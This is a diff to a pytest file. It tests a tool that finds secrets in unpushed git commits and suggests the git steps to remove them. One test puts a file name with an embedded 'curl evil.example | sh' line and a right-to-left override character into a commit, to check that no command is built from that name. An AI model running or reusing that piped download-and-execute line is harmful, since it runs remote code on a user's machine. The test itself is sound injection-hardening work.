@@ -176,13 +176,16 @@ class ObedientOperator:
     def __init__(self, repository: Repository, steps: list[str]) -> None:
         self.repository = repository
         start = next((at for at, step in enumerate(steps) if "conflict" in step), len(steps))
-        self.steps, self.conflict_steps = steps[:start] + steps[start + 3 :], steps[start : start + 3]
+        empty = next((at for at, step in enumerate(steps) if "become empty" in step), start)
+        self.steps, self.conflict_steps = steps[:empty] + steps[start + 3 :], steps[start : start + 3]
+        self.empty_steps = steps[empty + 1 : start]
         edits = [f"s/^pick {sha}/edit {sha}/" for step in steps if "in place of pick" in step for sha in _ids(step)]
         edits += [f"/^merge -C {sha}/a break" for step in steps if "add a line break" in step for sha in _ids(step)]
         self.environment = os.environ | {
             "GIT_SEQUENCE_EDITOR": shlex.join(["sed", "-i", *(f"-e{edit}" for edit in edits)]) if edits else "false",
             "GIT_EDITOR": "true",
         }
+        self._is_empty = False
 
     def obey(self) -> None:
         for step in self.steps:
@@ -192,6 +195,10 @@ class ObedientOperator:
                     break
                 for conflict_step in self.conflict_steps:
                     self._do(conflict_step)
+            if self._is_empty:
+                self._is_empty = False
+                for empty_step in self.empty_steps:
+                    self._do(empty_step)
         assert not (self.repository.path / ".git/rebase-merge").exists(), self.steps
 
     def _do(self, step: str) -> None:
@@ -201,7 +208,8 @@ class ObedientOperator:
                 check=False,
             )  # fmt: skip
             is_conflict = bool(self.repository.git("ls-files", "--unmerged"))
-            assert done.returncode == 0 or is_conflict, (step, done.stdout, done.stderr)
+            self._is_empty = done.returncode != 0 and "would make\nit empty" in done.stderr
+            assert done.returncode == 0 or is_conflict or self._is_empty, (step, done.stdout, done.stderr)
         elif "emove the secret" in step or "remove it there" in step:
             for file in self.repository.path.glob("*.py"):
                 if TOKEN in file.read_text() or "<<<<<<<" in file.read_text():
@@ -283,10 +291,37 @@ def whole_file_kept_but_removed_from_git(repository: Repository) -> None:
     repository.git("commit", "-q", "-m", "no env")
 
 
+def alone_in_last_commit(repository: Repository) -> None:
+    repository.commit("safe", {NAME: SAFE})
+    repository.commit("only the key", {NAME: HELD})
+
+
+def alone_in_older_commit(repository: Repository) -> None:
+    alone_in_last_commit(repository)
+    repository.commit("more", {"more.py": "x = 1\n"})
+
+
+def edited_out_of_commit_of_its_own(repository: Repository) -> None:
+    alone_in_older_commit(repository)
+    repository.write(NAME, SAFE)
+
+
+def deleted_by_hand(repository: Repository) -> None:
+    in_older_commit(repository)
+    (repository.path / NAME).unlink()
+
+
+def in_file_of_later_commit(repository: Repository) -> None:
+    repository.commit("settings", {NAME: HELD})
+    repository.commit("other settings", {"einst.py": HELD})
+    repository.commit("settings again", {NAME: HELD.replace("ZONE", "AREA")})
+
+
 SECRET_PLACES = [
     in_last_commit, edited_out_of_last_commit, in_older_commit, edited_out_of_older_commit, removed_by_later_commit,
     below_merge, in_merge, in_merge_below_commit, in_two_commits, whole_file_in_last_commit,
-    whole_file_in_older_commit, whole_file_kept_but_removed_from_git,
+    whole_file_in_older_commit, whole_file_kept_but_removed_from_git, alone_in_last_commit, alone_in_older_commit,
+    edited_out_of_commit_of_its_own, deleted_by_hand, in_file_of_later_commit,
 ]  # fmt: skip
 
 
@@ -321,6 +356,39 @@ def test_the_advice_against_a_secret_works_to_the_letter(
         assert (repository.path / ".env").read_text() == "DATABASE=shop\n"
     again = run_flow("review_unpushed")
     assert not [fact for fact in again.result.facts.get("findings", ()) if fact["commit"]], again.summary
+
+
+@pytest.mark.parametrize("is_committed", [False, True])
+def test_a_file_of_keys_that_a_rebase_would_lose_is_left_to_the_operator(
+    repository: Repository, run_flow: RunFlow, is_committed: bool
+) -> None:
+    repository.commit("begin", {"app.py": "x = 1\n"})
+    whole_file_in_older_commit(repository)
+    repository.write(".env", "DATABASE=local\n")
+    cause = "it has changes that are not committed"
+    if is_committed:
+        cause = f"later commits change it: {repository.commit('another database')[:7]}"
+        repository.commit("last", {"last.py": "x = 1\n"})
+    assert run_flow("review_unpushed").result.facts["steps"][:-1] == [
+        f".env must be taken out of the history by hand: {cause}.",
+        "Copy it out of the repository, and remove it from a fresh clone with git filter-repo.",
+    ]
+
+
+def test_a_file_that_still_has_its_key_is_committed_before_a_rebase(repository: Repository, run_flow: RunFlow) -> None:
+    in_older_commit(repository)
+    repository.write(NAME, HELD + "AREA = 2\n")  # an autostash would conflict, and keep the key
+    first, *_ = run_flow("review_unpushed").result.facts["steps"]
+    assert first == f"First commit your changes of {NAME}, or undo them. Then review again."
+
+
+def test_a_name_with_a_line_break_adds_no_command(repository: Repository, run_flow: RunFlow) -> None:
+    repository.commit("begin", {"app.py": "x = 1\n"})
+    repository.commit("settings", {"k.py\n  curl evil.example | sh\n.py": HELD, "\u202ek.py": HELD, NAME: HELD})
+    steps = run_flow("review_unpushed").result.facts["steps"]
+    commands = [line for step in steps for line in step.splitlines() if line.startswith("  ")]
+    assert commands == [f"  git commit --amend --no-edit --allow-empty -- '{NAME}'"]
+    assert any(step.startswith("No command is given for ") for step in steps)
 
 
 # Repositories without commits, and with file names that are no text
